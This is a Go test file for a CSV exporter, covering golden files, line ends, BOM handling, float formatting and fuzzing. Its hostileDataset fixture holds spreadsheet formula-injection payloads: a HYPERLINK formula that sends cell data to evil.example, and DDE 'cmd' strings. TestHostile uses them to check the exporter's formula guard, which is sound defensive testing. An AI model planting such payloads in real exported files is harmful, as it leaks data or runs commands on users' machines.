package csv

import (
	"bytes"
	"context"
	stdcsv "encoding/csv"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/briefpack/briefpack/exporters"
	"github.com/briefpack/briefpack/pipeline"
)

var update = flag.Bool("update", false, "rewrite golden files")

func export(t *testing.T, ds *pipeline.Dataset, opts exporters.Options) string {
	t.Helper()
	dir := t.TempDir()
	ex, err := exporters.New("csv", opts)
	if err != nil {
		t.Fatal(err)
	}
	dst := &exporters.Dest{Dir: dir}
	if err := ex.Export(context.Background(), ds, dst); err != nil {
		t.Fatal(err)
	}
	var want []string
	for _, tb := range Tables() {
		want = append(want, "csv/"+tb.Name+".csv")
	}
	if got := dst.Files(); strings.Join(got, ",") != strings.Join(sorted(want), ",") {
		t.Fatalf("files written = %v, want %v", got, sorted(want))
	}
	return dir
}

func sorted(xs []string) []string {
	out := append([]string(nil), xs...)
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j] < out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	r := stdcsv.NewReader(bytes.NewReader(b))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return recs
}

// TestGolden compares every file, byte for byte, with testdata/golden.
func TestGolden(t *testing.T) {
	dir := export(t, fixtureDataset(), exporters.Options{})
	for _, tb := range Tables() {
		got, err := os.ReadFile(filepath.Join(dir, "csv", tb.Name+".csv"))
		if err != nil {
			t.Fatal(err)
		}
		golden := filepath.Join("testdata", "golden", tb.Name+".csv")
		if *update {
			if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(golden, got, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatalf("%v (run go test -update)", err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from %s:\n%s", tb.Name, golden, firstDiff(string(want), string(got)))
		}
	}
}

func firstDiff(want, got string) string {
	wl, gl := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < len(wl) || i < len(gl); i++ {
		var w, g string
		if i < len(wl) {
			w = wl[i]
		}
		if i < len(gl) {
			g = gl[i]
		}
		if w != g {
			return "line " + itoa(i+1) + ":\nwant " + w + "\ngot  " + g
		}
	}
	return "(same lines)"
}

// TestFormat checks the properties the file format promises: CRLF line
// ends, a header matching the documented columns, the same column count
// on every row, offsets that point into documents.text, empty vs zero.
func TestFormat(t *testing.T) {
	ds := fixtureDataset()
	dir := export(t, ds, exporters.Options{})
	for _, tb := range Tables() {
		path := filepath.Join(dir, "csv", tb.Name+".csv")
		raw, _ := os.ReadFile(path)
		if bytes.HasPrefix(raw, []byte("\uFEFF")) {
			t.Errorf("%s: BOM written without CSVBOM", tb.Name)
		}
		if !bytes.HasSuffix(raw, []byte("\r\n")) || bytes.Count(raw, []byte("\n")) != bytes.Count(raw, []byte("\r\n")) {
			t.Errorf("%s: line ends are not all CRLF", tb.Name)
		}
		recs := readCSV(t, path)
		for i, c := range tb.Columns {
			if recs[0][i] != c.Name {
				t.Errorf("%s: header column %d = %q, want %q", tb.Name, i, recs[0][i], c.Name)
			}
		}
	}
	// Offsets are code points into documents.text.
	docs := readCSV(t, filepath.Join(dir, "csv", "documents.csv"))
	texts := map[string][]rune{}
	for _, r := range docs[1:] {
		texts[r[0]] = []rune(r[len(r)-1])
	}
	for _, r := range readCSV(t, filepath.Join(dir, "csv", "mentions.csv"))[1:] {
		start, end := atoi(t, r[5]), atoi(t, r[6])
		if got := string(texts[r[0]][start:end]); got != r[3] {
			t.Errorf("mention %v: text[%d:%d] = %q, want surface %q", r, start, end, got, r[3])
		}
	}
	for _, r := range readCSV(t, filepath.Join(dir, "csv", "sentences.csv"))[1:] {
		start, end := atoi(t, r[3]), atoi(t, r[4])
		if got := string(texts[r[0]][start:end]); got != r[8] {
			t.Errorf("sentence %s: text[%d:%d] = %q, want %q", r[1], start, end, got, r[8])
		}
	}
	// Empty and zero stay distinct: doc 2 has no published date, some
	// sentences have tone 0, negative tones stay numbers.
	if docs[2][8] != "" {
		t.Errorf("missing published date written as %q, want empty", docs[2][8])
	}
	var zero, negative bool
	for _, r := range readCSV(t, filepath.Join(dir, "csv", "sentences.csv"))[1:] {
		zero = zero || r[6] == "0"
		negative = negative || strings.HasPrefix(r[6], "-0.")
	}
	if !zero || !negative {
		t.Errorf("sentence tones: want a \"0\" and a negative decimal unguarded (zero=%v negative=%v)", zero, negative)
	}
}

func atoi(t *testing.T, s string) int {
	t.Helper()
	n := 0
	for _, c := range s {
		if c < '0' || c > '9' {
			t.Fatalf("not an integer: %q", s)
		}
		n = n*10 + int(c-'0')
	}
	return n
}

func TestBOM(t *testing.T) {
	dir := export(t, fixtureDataset(), exporters.Options{CSVBOM: true})
	for _, tb := range Tables() {
		raw, _ := os.ReadFile(filepath.Join(dir, "csv", tb.Name+".csv"))
		if !bytes.HasPrefix(raw, []byte("\xEF\xBB\xBF"+tb.Columns[0].Name+",")) {
			t.Errorf("%s: want BOM then header, got %q", tb.Name, raw[:min(20, len(raw))])
		}
	}
}

func TestFmtFloat(t *testing.T) {
	cases := []struct {
		in   float64
		want string
	}{
		{0, "0"}, {-0.0, "0"}, {-0.00001, "0"}, {0.25, "0.25"}, {-0.25, "-0.25"}, {1, "1"},
		{0.12345, "0.1235"}, {0.33333333, "0.3333"}, {5200000, "5200000"}, {-1, "-1"}, {1e-5, "0"},
	}
	for _, c := range cases {
		if got := fmtFloat(c.in); got != c.want {
			t.Errorf("fmtFloat(%v) = %q, want %q", c.in, got, c.want)
		}
	}
}

// hostileDataset has titles and sentences built to attack a spreadsheet.
func hostileDataset() *pipeline.Dataset {
	ds := fixtureDataset()
	d := ds.Docs[0]
	d.Document.Title = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	d.Document.Byline = "+cmd|' /C calc'!A0"
	d.Document.Site = "@SUM(1+1)*cmd|' /C calc'!A0"
	d.Document.Notes = []string{"-2+3+cmd|' /C calc'!A0", "line1\r\nline2\rline3"}
	d.Sentences[0].Text = "\t=1+1"
	d.Sentences[1].Text = "\r=1+1"
	d.Sentences[2].Text = "say \"hi\", then, \"bye\"\n\nnext"
	d.Sentences[3].Text = "invalid \xff utf-8"
	d.Sentences[0].Tone = -0.25
	ds.Views.Actors[0].KeyStatement = "-0.25"
	return ds
}

func TestHostile(t *testing.T) {
	ds := hostileDataset()
	for _, guard := range []bool{true, false} {
		dir := export(t, ds, exporters.Options{NoFormulaGuard: !guard})
		docs := readCSV(t, filepath.Join(dir, "csv", "documents.csv"))
		sents := readCSV(t, filepath.Join(dir, "csv", "sentences.csv"))
		actors := readCSV(t, filepath.Join(dir, "csv", "actors.csv"))
		q := ""
		if guard {
			q = "'"
		}
		checks := []struct{ name, got, want string }{
			{"title", docs[1][5], q + ds.Docs[0].Document.Title},
			{"byline", docs[1][6], q + ds.Docs[0].Document.Byline},
			{"site", docs[1][7], q + ds.Docs[0].Document.Site},
			{"notes", docs[1][10], q + "-2+3+cmd|' /C calc'!A0\nline1\nline2\nline3"},
			{"tab sentence", sents[1][8], q + "\t=1+1"},
			{"cr sentence", sents[2][8], q + "\n=1+1"},
			{"quotes and commas", sents[3][8], "say \"hi\", then, \"bye\"\n\nnext"},
			{"invalid utf-8", sents[4][8], "invalid \uFFFD utf-8"},
			{"numeric tone", sents[1][6], "-0.25"},
			{"text that looks numeric", actors[1][12], q + "-0.25"},
		}
		for _, c := range checks {
			if c.got != c.want {
				t.Errorf("guard=%v %s: got %q, want %q", guard, c.name, c.got, c.want)
			}
		}
	}
}

// TestCancel checks that a cancelled context stops the export and leaves
// no file behind.
func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	dir := t.TempDir()
	ex, _ := New(exporters.Options{})
	err := ex.Export(ctx, fixtureDataset(), &exporters.Dest{Dir: dir})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	entries, _ := os.ReadDir(filepath.Join(dir, "csv"))
	if len(entries) != 0 {
		t.Errorf("files left after cancel: %v", entries)
	}
}

// TestEmptyDataset checks that a run with no documents still writes every
// file with its header.
func TestEmptyDataset(t *testing.T) {
	dir := export(t, &pipeline.Dataset{}, exporters.Options{})
	for _, tb := range Tables() {
		recs := readCSV(t, filepath.Join(dir, "csv", tb.Name+".csv"))
		if len(recs) != 1 || len(recs[0]) != len(tb.Columns) {
			t.Errorf("%s: got %d records, want only the header", tb.Name, len(recs))
		}
	}
}

// FuzzRoundtrip writes arbitrary strings through the row writer and reads
// them back with encoding/csv: every text cell comes back as ExpectedText
// (cleaned and guarded) and the numeric cell unchanged.
func FuzzRoundtrip(f *testing.F) {
	for _, s := range []string{"", "plain", "=1+1", "-0.25", "a,b", "\"q\"", "x\r\ny", "\r", "\n", " lead", "\uFEFFbom", "\xff", "\\.", "a\"b\nc\rd", "@x", "\t"} {
		f.Add(s, "second", true)
		f.Add("first", s, false)
	}
	cols := []Column{{"a", Text, ""}, {"n", Float, ""}, {"b", Text, ""}}
	f.Fuzz(func(t *testing.T, a, b string, guard bool) {
		var buf bytes.Buffer
		rw, err := newRowWriter(&buf, cols, false, guard)
		if err != nil {
			t.Fatal(err)
		}
		if err := rw.write(a, "-0.25", b); err != nil {
			t.Fatal(err)
		}
		if err := rw.write(b, "0", a); err != nil {
			t.Fatal(err)
		}
		if err := rw.flush(); err != nil {
			t.Fatal(err)
		}
		recs, err := stdcsv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("read back %q: %v", buf.String(), err)
		}
		want := [][]string{{"a", "n", "b"}, {ExpectedText(a, guard), "-0.25", ExpectedText(b, guard)}, {ExpectedText(b, guard), "0", ExpectedText(a, guard)}}
		if len(recs) != len(want) {
			t.Fatalf("got %d records %q, want %d", len(recs), recs, len(want))
		}
		for i := range want {
			for j := range want[i] {
				if recs[i][j] != want[i][j] {
					t.Fatalf("record %d cell %d = %q, want %q", i, j, recs[i][j], want[i][j])
				}
			}
		}
	})
}
